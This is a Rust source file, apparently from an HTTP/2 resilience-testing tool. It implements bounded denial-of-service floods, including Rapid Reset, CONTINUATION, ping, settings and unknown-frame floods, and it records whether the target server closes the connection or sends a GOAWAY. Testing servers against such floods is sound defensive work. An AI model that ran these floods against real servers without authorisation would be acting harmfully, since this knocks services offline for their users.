//! Floods of HTTP/2 frames that cost their sender nothing: connection after connection, bounded in number
//! and time.

use std::time::Duration;

use anyhow::Result;
use clap::ValueEnum;
use serde::{Deserialize, Serialize};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::Instant;

use crate::adversary::frames::{self, Method, frame};

/// What there is too much of.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Flood {
    /// Requests that are cancelled at once.
    RapidReset,
    /// A block of headers without an end.
    Continuation,
    /// Pings.
    Ping,
    /// Answers to pings that nobody sent.
    PingAck,
    /// Settings that settle nothing.
    Settings,
    /// Room for data that nobody sends.
    WindowUpdate,
    /// Pieces of a body without a byte.
    EmptyData,
    /// Priorities of a stream.
    Priority,
    /// Frames of a kind that does not exist.
    Unknown,
}

/// What became of a flood.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Flooded {
    /// Connections made.
    pub connections: u32,
    /// Those that the other side ended before all of their frames were sent.
    pub ended: u32,
    /// Those that were told why in a GOAWAY.
    pub told: u32,
    /// Frames written, whether or not somebody read them.
    pub frames: u64,
}

impl Flood {
    /// What comes before the flood.
    fn opening(self) -> Vec<u8> {
        let post = frames::request(Method::Post, "/");
        let open = match self {
            Self::Continuation => frame(frames::HEADERS, 0, 1, &post),
            Self::EmptyData | Self::WindowUpdate | Self::Priority => {
                frame(frames::HEADERS, frames::END_HEADERS, 1, &post)
            }
            Self::RapidReset | Self::Ping | Self::PingAck | Self::Settings | Self::Unknown => {
                Vec::new()
            }
        };
        [frames::preface(), open].concat()
    }

    /// One drop of it.
    fn drop(self, number: u32) -> Vec<u8> {
        match self {
            Self::RapidReset => {
                let stream = 2 * number + 1;
                let flags = frames::END_HEADERS | frames::END_STREAM;
                let get = frames::request(Method::Get, "/");
                let cancel = [0, 0, 0, 8];
                [
                    frame(frames::HEADERS, flags, stream, &get),
                    frame(frames::RST_STREAM, 0, stream, &cancel),
                ]
                .concat()
            }
            // A header of its own each, without indexing: "x: y".
            Self::Continuation => frame(frames::CONTINUATION, 0, 1, b"\x00\x01x\x01y"),
            Self::Ping => frame(frames::PING, 0, 0, &[1; 8]),
            Self::PingAck => frame(frames::PING, frames::ACK, 0, &[1; 8]),
            Self::Settings => frame(frames::SETTINGS, 0, 0, &[]),
            Self::WindowUpdate => frame(frames::WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]),
            Self::EmptyData => frame(frames::DATA, 0, 1, &[]),
            Self::Priority => frame(frames::PRIORITY, 0, 1, &[0, 0, 0, 0, 16]),
            Self::Unknown => frame(0xf0, 0, 0, &[0; 8]),
        }
    }
}

/// Floods an address for this long, with so many frames on each connection, and so many connections in
/// a second at most.
pub async fn flood(
    kind: Flood,
    address: &str,
    duration: Duration,
    (frames, per_second): (u32, u32),
) -> Result<Flooded> {
    let mut flooded = Flooded::default();
    let begun = Instant::now();
    let mut interval = tokio::time::interval(Duration::from_secs(1) / per_second.max(1));
    while begun.elapsed() < duration {
        interval.tick().await;
        let stream = TcpStream::connect(address).await?;
        let left = duration.saturating_sub(begun.elapsed()).max(PATIENCE);
        flooded.connections += 1;
        // Whatever is not over by then was not ended.
        let _ = tokio::time::timeout(left, pour(kind, stream, frames, &mut flooded)).await;
    }
    Ok(flooded)
}

async fn pour(kind: Flood, stream: TcpStream, frames: u32, flooded: &mut Flooded) {
    let (mut reader, mut writer) = stream.into_split();
    let reading = async {
        let mut received = Vec::new();
        let mut is_told = false;
        while let Ok(1..) = reader.read_buf(&mut received).await {
            while let Some(frame) = frames::take(&mut received) {
                is_told |= frames::reason(&frame).is_some();
            }
        }
        is_told
    };
    let mut sent = 0;
    let writing = async {
        if writer.write_all(&kind.opening()).await.is_err() {
            return Writing::Broken;
        }
        while sent < frames {
            let batch: Vec<u8> =
                (sent..frames.min(sent + BATCH)).flat_map(|number| kind.drop(number)).collect();
            if writer.write_all(&batch).await.is_err() {
                return Writing::Broken;
            }
            sent += BATCH;
        }
        Writing::Done
    };
    // What the other side says last may come before or after writing fails. When all is written it has
    // this long to end the connection.
    let reading = async { tokio::time::timeout(PATIENCE, reading).await.ok() };
    let (is_told, writing) = tokio::join!(reading, writing);
    flooded.ended += u32::from(is_told.is_some() || writing == Writing::Broken);
    flooded.told += u32::from(is_told == Some(true));
    flooded.frames += u64::from(sent);
}

/// How far it came.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Writing {
    Done,
    Broken,
}

/// Frames written at once.
const BATCH: u32 = 64;
const PATIENCE: Duration = Duration::from_secs(2);
